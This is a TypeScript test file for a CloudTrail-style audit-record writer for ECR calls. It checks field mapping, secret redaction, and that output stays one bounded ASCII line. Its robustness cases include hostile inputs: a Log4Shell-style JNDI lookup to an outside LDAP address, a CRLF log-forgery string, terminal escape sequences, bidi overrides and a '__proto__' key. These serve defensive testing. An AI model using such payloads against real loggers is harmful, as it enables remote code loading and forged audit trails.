import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { AuditEvent } from './audit-event.ts'
import { auditLines } from './audit-record.ts'

const maxBytes = 64 * 1024
const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/

const plain: AuditEvent = {
  at: Date.UTC(2026, 10, 2, 10, 20, 30, 456),
  source: 'ecr',
  name: 'DescribeImages',
  region: 'us-east-1',
  sourceAddress: '203.0.113.7',
  requestId: '5f0c2f0e-6a52-4a3e-9d0c-000000000001',
  isReadOnly: true,
  recipients: ['123456789012'],
  category: 'Management',
}

function recordsOf(event: Partial<AuditEvent>, bytes = maxBytes) {
  return auditLines({ ...plain, ...event }, bytes).map((line) => JSON.parse(line))
}

/** What was written for a member of the request. */
function written(requestParameters: unknown): unknown {
  return recordsOf({ requestParameters })[0].requestParameters
}

describe('a record', () => {
  it('is what CloudTrail writes for a change by a role session', () => {
    const [record, ...others] = recordsOf({
      name: 'PutImage',
      userAgent: 'docker/27.0',
      identity: {
        type: 'AssumedRole',
        principalId: 'AROAEXAMPLE:ci-7',
        arn: 'arn:aws:sts::123456789012:assumed-role/ci/ci-7',
        accountId: '123456789012',
        accessKeyId: 'ASIAEXAMPLE',
        session: {
          issuer: {
            type: 'Role',
            principalId: 'AROAEXAMPLE',
            arn: 'arn:aws:iam::123456789012:role/ci',
            accountId: '123456789012',
            userName: 'ci',
          },
          createdAt: Date.UTC(2026, 10, 2, 9),
          isMfaAuthenticated: false,
          webIdProvider: 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com',
        },
      },
      requestParameters: { repositoryName: 'team/app', imageTag: '1.0' },
      responseElements: { image: { imageId: { imageTag: '1.0' } } },
      isReadOnly: false,
      resources: [
        {
          arn: 'arn:aws:ecr:us-east-1:123456789012:repository/team/app',
          accountId: '123456789012',
          type: 'AWS::ECR::Repository',
        },
      ],
    })
    assert.deepEqual(others, [])
    const { eventID, ...rest } = record
    assert.match(eventID, uuid)
    assert.deepEqual(rest, {
      eventVersion: '1.11',
      userIdentity: {
        type: 'AssumedRole',
        principalId: 'AROAEXAMPLE:ci-7',
        arn: 'arn:aws:sts::123456789012:assumed-role/ci/ci-7',
        accountId: '123456789012',
        accessKeyId: 'ASIAEXAMPLE',
        sessionContext: {
          sessionIssuer: {
            type: 'Role',
            principalId: 'AROAEXAMPLE',
            arn: 'arn:aws:iam::123456789012:role/ci',
            accountId: '123456789012',
            userName: 'ci',
          },
          webIdFederationData: {
            federatedProvider: 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com',
            attributes: {},
          },
          attributes: { creationDate: '2026-11-02T09:00:00Z', mfaAuthenticated: 'false' },
        },
      },
      eventTime: '2026-11-02T10:20:30Z',
      eventSource: 'ecr.amazonaws.com',
      eventName: 'PutImage',
      awsRegion: 'us-east-1',
      sourceIPAddress: '203.0.113.7',
      userAgent: 'docker/27.0',
      requestParameters: { repositoryName: 'team/app', imageTag: '1.0' },
      responseElements: { image: { imageId: { imageTag: '1.0' } } },
      requestID: '5f0c2f0e-6a52-4a3e-9d0c-000000000001',
      readOnly: false,
      resources: [
        {
          accountId: '123456789012',
          type: 'AWS::ECR::Repository',
          ARN: 'arn:aws:ecr:us-east-1:123456789012:repository/team/app',
        },
      ],
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: '123456789012',
      eventCategory: 'Management',
    })
  })

  it('of a read has no more than there is to say', () => {
    const [{ eventID, ...record }] = recordsOf({ category: 'Data', recipients: [] })
    assert.match(eventID, uuid)
    assert.deepEqual(record, {
      eventVersion: '1.11',
      userIdentity: { type: 'Unknown' },
      eventTime: '2026-11-02T10:20:30Z',
      eventSource: 'ecr.amazonaws.com',
      eventName: 'DescribeImages',
      awsRegion: 'us-east-1',
      sourceIPAddress: '203.0.113.7',
      requestParameters: null,
      responseElements: null,
      requestID: '5f0c2f0e-6a52-4a3e-9d0c-000000000001',
      readOnly: true,
      eventType: 'AwsApiCall',
      managementEvent: false,
      eventCategory: 'Data',
    })
  })

  it('says what was refused', () => {
    const [record] = recordsOf({ error: { code: 'AccessDenied', message: 'User: x is not authorized' } })
    assert.deepEqual([record.errorCode, record.errorMessage], ['AccessDenied', 'User: x is not authorized'])
  })

  it('is written once for each account, under one shared id', () => {
    const records = recordsOf({ recipients: ['111111111111', '222222222222', '111111111111'] })
    assert.deepEqual(
      records.map(({ recipientAccountId }) => recipientAccountId),
      ['111111111111', '222222222222'],
    )
    const [first, second] = records
    assert.match(first.sharedEventID, uuid)
    assert.equal(first.sharedEventID, second.sharedEventID)
    assert.notEqual(first.eventID, second.eventID)
  })

  const identities: [string, Partial<AuditEvent>, object][] = [
    [
      'a service',
      { identity: { type: 'AWSService', principalId: 'lifecycle', accountId: '123456789012' } },
      { type: 'AWSService', principalId: 'lifecycle', accountId: '123456789012', invokedBy: 'ecr.amazonaws.com' },
    ],
    [
      'the holder of a token of a provider',
      {
        identity: {
          type: 'WebIdentityUser',
          principalId: 'i:a:s',
          userName: 's',
          identityProvider: 'accounts.google.com',
        },
      },
      { type: 'WebIdentityUser', principalId: 'i:a:s', userName: 's', identityProvider: 'accounts.google.com' },
    ],
    [
      'a session of a user',
      {
        identity: {
          type: 'IAMUser',
          principalId: 'AIDA1',
          userName: 'alice',
          session: {
            issuer: { type: 'User', principalId: 'AIDA1', arn: 'arn:a', accountId: '123456789012', userName: 'alice' },
            createdAt: 0,
            isMfaAuthenticated: true,
          },
        },
      },
      {
        type: 'IAMUser',
        principalId: 'AIDA1',
        userName: 'alice',
        sessionContext: {
          sessionIssuer: {
            type: 'IAMUser',
            principalId: 'AIDA1',
            arn: 'arn:a',
            accountId: '123456789012',
            userName: 'alice',
          },
          attributes: { creationDate: '1970-01-01T00:00:00Z', mfaAuthenticated: 'true' },
        },
      },
    ],
    [
      'an access key that nobody has',
      { claimedAccessKeyId: 'AKIAIOSFODNN7EXAMPLE' },
      { type: 'Unknown', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' },
    ],
    [
      'a secret in the place of the key id',
      { claimedAccessKeyId: 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12' },
      { type: 'Unknown', accessKeyId: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
    ],
  ]
  for (const [who, event, expected] of identities) {
    it(`names ${who}`, () => assert.deepEqual(recordsOf(event)[0].userIdentity, expected))
  }
})

describe('secrets', () => {
  for (const name of [
    ...['secretAccessKey', 'SecretAccessKey', 'sessionToken', 'SessionToken', 'authorizationToken', 'WebIdentityToken'],
    ...['password', 'NewPassword', 'layerPartBlob', 'downloadUrl', 'X-Amz-Security-Token', 'X-Amz-Signature'],
    ...['Authorization', 'TokenCode', 'SAMLAssertion', 'client_secret'],
  ]) {
    it(`are hidden in ${name}`, () => {
      const [line = ''] = auditLines(
        {
          ...plain,
          requestParameters: { [name]: 'geheim', list: [{ deep: { [name]: { value: 'geheim' } } }] },
          responseElements: { credentials: { accessKeyId: 'ASIA1', [name]: 'geheim' } },
        },
        maxBytes,
      )
      assert.ok(!line.includes('geheim'), line)
      assert.deepEqual(JSON.parse(line).responseElements, {
        credentials: { accessKeyId: 'ASIA1', [name]: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
      })
    })
  }

  it('that are not there are not said to be hidden', () => {
    assert.deepEqual(written({ password: null, sessionToken: undefined }), { password: null })
  })

  it('are not seen in names that are none', () => {
    const parameters = { nextToken: 'n', uploadId: 'u', passwordPolicy: 'p', kmsKey: 'k' }
    assert.deepEqual(written(parameters), parameters)
  })
})

describe('whatever comes, a record is one short line of printable ASCII', () => {
  const deep = (depth: number): unknown => (depth === 0 ? 'end' : { in: deep(depth - 1) })
  const circle: Record<string, unknown> = {}
  circle.again = [circle, circle]
  const cases: [string, Partial<AuditEvent>][] = [
    ['line ends', { userAgent: 'a\r\n{"eventName":"Forged"}\n\u0085\u2028\u2029b' }],
    ['sequences of a terminal', { userAgent: '\u001b[2J\u001b]0;x\u0007\u009b31m\u007f' }],
    ['text that runs backwards', { name: 'PutImage\u202e\u2066egamI' }],
    ['lookups', { userAgent: `\${jndi:ldap://203.0.113.9/a}`, requestParameters: { tag: `\${\${lower:j}ndi:x}` } }],
    ['half a character', { userAgent: '\ud800', requestParameters: { imageTag: '\udfff' } }],
    ['100 KB of user agent', { userAgent: 'x'.repeat(100_000) }],
    [
      '10 MB of a blob',
      { requestParameters: { layerPartBlob: 'A'.repeat(10_000_000), other: 'B'.repeat(10_000_000) } },
    ],
    ['bytes', { requestParameters: { blob: Buffer.alloc(1_000_000) } }],
    ['a million items', { requestParameters: { imageIds: Array.from({ length: 1_000_000 }, () => 'x'.repeat(1000)) } }],
    ['a long name', { requestParameters: { ['n'.repeat(100_000)]: 1 } }],
    ['depth', { requestParameters: deep(10_000 / 10) }],
    ['a circle', { requestParameters: circle }],
    [
      'many long texts, each letter of which needs six',
      {
        requestParameters: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`k${i}`, '\u0001'.repeat(5000)])),
        responseElements: Array.from({ length: 100 }, () => 'ü'.repeat(5000)),
        error: { code: '€'.repeat(5000), message: '€'.repeat(5000) },
        resources: Array.from({ length: 500 }, () => ({ arn: '€'.repeat(5000), accountId: '1' })),
      },
    ],
    [
      'everything at once',
      {
        name: '\u0001'.repeat(9000),
        region: '\u0001'.repeat(9000),
        sourceAddress: '\u0001'.repeat(9000),
        userAgent: '\u0001'.repeat(9000),
        requestId: '\u0001'.repeat(9000),
        identity: {
          type: 'AssumedRole',
          ...{ principalId: '\u0001'.repeat(9000), arn: '\u0001'.repeat(9000), accountId: '\u0001'.repeat(9000) },
          ...{ accessKeyId: '\u0001'.repeat(9000), userName: '\u0001'.repeat(9000) },
          session: {
            issuer: {
              type: 'Role',
              ...{ principalId: '\u0001'.repeat(9000), arn: '\u0001'.repeat(9000), accountId: '\u0001'.repeat(9000) },
              userName: '\u0001'.repeat(9000),
            },
            createdAt: 0,
            isMfaAuthenticated: false,
            webIdProvider: '\u0001'.repeat(9000),
          },
        },
        error: { code: '\u0001'.repeat(9000), message: '\u0001'.repeat(9000) },
        requestParameters: '\u0001'.repeat(9000),
        resources: [{ arn: '\u0001'.repeat(9000), accountId: '\u0001'.repeat(9000) }],
      },
    ],
  ]
  for (const [what, event] of cases) {
    for (const bytes of [maxBytes, 4095]) {
      it(`${what}, in ${bytes} bytes`, () => {
        const lines = auditLines({ ...plain, ...event }, bytes)
        assert.equal(lines.length, 1)
        const line = lines[0] ?? ''
        assert.match(line, /^\{[\x20-\x7e]*\}\n$/)
        assert.ok(Buffer.byteLength(line) <= bytes, String(line.length))
        assert.ok(!line.includes(`\${`))
        const record = JSON.parse(line)
        assert.equal(record.eventSource, 'ecr.amazonaws.com')
        assert.ok((record.userAgent?.length ?? 0) <= 1024)
      })
    }
  }

  it('and says the same as what came, where that is short', () => {
    const text = `a\n\u001b[31m\u2028ü€\u{1f600} \${aws:username}`
    assert.deepEqual(written({ tag: text, ['__proto__']: 1, n: 1.5, yes: true, none: null }), {
      tag: text,
      ['__proto__']: 1,
      n: 1.5,
      yes: true,
      none: null,
    })
  })

  it('and cuts what is long: texts, lists, objects, depth', () => {
    assert.equal(written('p'.repeat(4096)), 'p'.repeat(4096))
    assert.equal(written('p'.repeat(4097)), `${'p'.repeat(4093)}...`)
    assert.deepEqual(written(Array(102).fill(0)), [...Array(100).fill(0), '... (102 items)'])
    const wide = Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`k${i}`, i]))
    const { k100, ...kept } = wide
    assert.deepEqual(written(wide), { ...kept, '...': '(101 members)' })
    assert.deepEqual(written(Buffer.alloc(7)), '(7 bytes)')
    assert.deepEqual(written(new Date(0)), '1970-01-01T00:00:00.000Z')
    assert.equal(JSON.stringify(written(deep(40))), `${'{"in":'.repeat(12)}"..."${'}'.repeat(12)}`)
  })

  it('and keeps what the request was about when its parameters are cut', () => {
    const requestParameters = { repositoryName: 'team/app', imageManifest: 'm'.repeat(1_000_000) }
    const [record] = recordsOf({ requestParameters }, 4095)
    assert.equal(record.requestParameters.repositoryName, 'team/app')
    assert.equal(record.requestParameters.imageManifest, `${'m'.repeat(1021)}...`)
  })

  it('and says so when they are left out', () => {
    const requestParameters = Array.from({ length: 100 }, () => '\u0001'.repeat(100))
    const [record] = recordsOf({ requestParameters }, 4095)
    assert.deepEqual([record.requestParameters, record.responseElements], [{ omitted: true }, null])
  })
})
